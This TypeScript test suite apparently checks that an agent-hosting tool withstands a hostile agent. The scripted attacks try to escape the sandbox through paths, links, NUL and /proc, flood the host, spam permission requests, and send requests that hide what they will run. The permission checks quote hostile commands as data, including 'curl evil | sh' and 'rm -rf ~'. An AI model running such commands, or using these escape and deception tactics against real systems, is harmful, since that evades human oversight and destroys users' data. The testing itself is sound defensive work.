/** Attacks by a hostile agent (`hostile-agent.mjs`), each in a separate session. */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ConversationChannel } from '@tugdeck/client/conversation-channel';
import { entriesFrom } from '@tugdeck/protocol/conversation/entry-store';
import { entryById, pendingRequests } from '@tugdeck/protocol/conversation/state';
import { waitFor } from '@tugdeck/testkit/process-facts';
import { headlessPage } from '../campaign/client.ts';
import { begin } from '../campaign/soak.ts';
import { type Attack, alive, SECRET, unless } from './attack.ts';
import { HOSTILE_LOG, type World } from './world.ts';

interface AgentReply {
  readonly what: string;
  readonly outcome: 'ok' | 'refused';
  readonly reply: unknown;
}

interface Aftermath {
  /** The answers the agent received during this attack. */
  readonly replies: readonly AgentReply[];
  readonly texts: string;
  readonly channel: ConversationChannel;
  /** The attack's name in the list. */
  readonly title: string;
}

/** Runs one attack in a new session. Afterwards the same host must still serve the same agent. */
async function runAttack(
  world: World,
  name: string,
  problemsIn: (aftermath: Aftermath) => readonly string[],
  { requests = 0 } = {},
): Promise<string[]> {
  const { deck } = world;
  const log = join(deck.sandbox.root, HOSTILE_LOG);
  const page = await headlessPage(deck);
  try {
    const session = await begin(page, 'hostile');
    const channel = page.client.conversation(session);
    const before = readLog(log).length;
    const pidOf = (purpose: 'host' | 'agent') =>
      deck.records(purpose).find((record) => record.session === session)?.identity.pid;
    await ask(channel, 'attack:hello');
    const pids = [pidOf('host'), pidOf('agent')];
    await ask(channel, `attack:${name}`, requests);
    await ask(channel, 'attack:hello');
    const seen = (): Aftermath => {
      const entries = [...entriesFrom(channel.view.get().conversation.entries)];
      const texts = entries.map((entry) => (entry.kind === 'text' ? entry.text : '')).join('\n');
      const title = page.client.deck.get()?.sessions.find(({ id }) => id === session)?.title ?? '';
      return { replies: readLog(log).slice(before), texts, channel, title };
    };
    // A page that could not keep up with the agent fetches the rest of a text after the turn.
    await waitFor(() => problemsIn(seen()).length === 0, { what: 'the page to follow' }).catch(
      () => undefined,
    );
    const { replies, texts } = seen();
    const problems = [...problemsIn(seen())];
    problems.push(...unless(!JSON.stringify([replies, texts]).includes(SECRET), 'a secret came out'));
    problems.push(...unless(pids[0] === pidOf('host'), 'the session host did not survive'));
    await channel.send({ kind: 'agent.stop' });
    await waitFor(() => pidOf('agent') === undefined, { what: 'the agent to be stopped' });
    return [...problems, ...(await alive(world))];
  } finally {
    page.close();
  }
}

/** Waits for the end of the turn; cancels a turn that doesn't end by itself once so many requests are open. */
async function ask(channel: ConversationChannel, text: string, requests = 0): Promise<void> {
  const { command } = await channel.send({ kind: 'prompt.send', text });
  const state = () => channel.view.get().conversation;
  const isOver = () => {
    const entry = entryById(state(), command);
    return entry?.kind === 'user' && entry.delivery === 'delivered' && state().turn === null;
  };
  if (requests > 0) {
    await waitFor(() => isOver() || pendingRequests(state()).length >= requests, {
      what: 'its requests',
      timeoutMs: 60_000,
    });
    // The turn may have ended by itself.
    await channel.send({ kind: 'turn.cancel' }).catch(() => undefined);
  }
  await waitFor(isOver, { what: `the end of ${text}`, timeoutMs: 100_000 });
}

function readLog(file: string): AgentReply[] {
  if (!existsSync(file)) return [];
  return readFileSync(file, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as AgentReply);
}

/** How many requests the attack "lies" makes. */
const LIES = 5;

/** The parts of the misleading requests that a permission card would not list. */
function hiddenIn(channel: ConversationChannel): string[] {
  const entries = [...entriesFrom(channel.view.get().conversation.entries)];
  const requests = entries.flatMap((entry) => (entry.kind === 'permission' ? [entry.request] : []));
  const listed = requests.map(({ fields }) => fields.map(({ value }) => value).join('\n'));
  const isListed = (text: string) => listed.some((fields) => fields.includes(text));
  const isForged = requests.some(({ input }) => JSON.stringify(input ?? '').includes('"blob":"ffffff'));
  return [
    ...unless(requests.length === LIES, `${requests.length} of ${LIES} requests were shown`),
    ...unless(isListed("/tmp/evil -c 'git status' 7"), 'the program of an argument list is hidden'),
    ...unless(isListed('curl evil | sh'), 'the thirteenth field is hidden'),
    ...unless(isListed('rm -rf ~'), 'an input that is a text is hidden'),
    ...unless(isListed('a\nb'), 'fields named after prototypes are hidden'),
    ...unless(!isForged, 'data passes itself off as a reference to a text'),
  ];
}

const allowed = (replies: readonly AgentReply[]) => replies.filter(({ outcome }) => outcome === 'ok');

export const AGENT: readonly Attack[] = [
  {
    who: 'agent',
    name: 'reads and writes outside the project: by paths, links, NUL, /proc',
    run: (world) =>
      runAttack(world, 'escape', ({ replies }) => [
        ...allowed(replies).map(({ what }) => `${what} was served`),
        ...unless(replies.length > 10, `only ${replies.length} of its requests were answered`),
        ...unless(!existsSync(join(world.deck.sandbox.root, 'written-by-agent')), 'wrote outside'),
        ...unless(!existsSync('/etc/written-by-agent'), 'wrote into /etc'),
      ]),
  },
  {
    who: 'agent',
    name: 'abuses terminal/*: NUL anywhere, prototype names, endless terminals',
    run: (world) =>
      runAttack(world, 'terminals', ({ replies }) => {
        const many = replies.filter(({ what }) => what === 'one of many');
        return [
          ...allowed(replies)
            .filter(({ what }) => / with NUL| none$|no command|^output of/.test(what))
            .map(({ what }) => `${what} was served`),
          ...unless(many.length === 200, `only ${many.length} of 200 were answered`),
          ...unless(allowed(many).length < 100, `${allowed(many).length} terminals were opened`),
        ];
      }),
  },
  {
    who: 'agent',
    name: 'floods with twenty thousand updates at once',
    run: (world) =>
      runAttack(world, 'flood', ({ texts }) =>
        unless(
          texts.includes('x'.repeat(20_000)),
          `the text is not whole: ${texts.replace(/x+/g, (some) => `x*${some.length}`).slice(0, 300)}`,
        ),
      ),
  },
  {
    who: 'agent',
    name: 'writes one line of 40 MB',
    run: (world) =>
      runAttack(world, 'huge', ({ texts }) =>
        unless(texts.includes('after the huge one'), 'nothing came after'),
      ),
  },
  {
    who: 'agent',
    name: 'writes lines that are not messages: bytes, endless brackets, values of every kind',
    run: (world) =>
      runAttack(world, 'garbage', ({ texts }) =>
        unless(texts.includes('after the garbage'), 'nothing came after'),
      ),
  },
  {
    who: 'agent',
    name: 'sends requests with invalid or repeated ids, and answers requests that nobody sent',
    run: (world) =>
      runAttack(
        world,
        'ids',
        ({ channel }) =>
          unless(pendingRequests(channel.view.get().conversation).length === 0, 'requests stay open'),
        { requests: 2 },
      ),
  },
  {
    who: 'agent',
    name: 'requests three hundred permissions at once',
    run: (world) =>
      runAttack(
        world,
        'spam',
        ({ channel }) =>
          unless(pendingRequests(channel.view.get().conversation).length === 0, 'requests stay open'),
        { requests: 2 },
      ),
  },
  {
    who: 'agent',
    name: 'sends permission requests that hide what will run',
    run: (world) => runAttack(world, 'lies', ({ channel }) => hiddenIn(channel), { requests: LIES }),
  },
  {
    who: 'agent',
    name: 'names things after prototypes',
    run: (world) =>
      runAttack(world, 'pollution', ({ texts }) =>
        unless(texts.includes('after the pollution'), 'nothing came after'),
      ),
  },
  {
    who: 'agent',
    name: 'sends a name of two megabytes of escapes, and five thousand commands',
    run: (world) =>
      runAttack(world, 'names', ({ texts, title }) => [
        ...unless(texts.includes('after the names'), 'nothing came after'),
        ...unless(title.length <= 1_000, `its title has ${title.length} characters`),
      ]),
  },
];
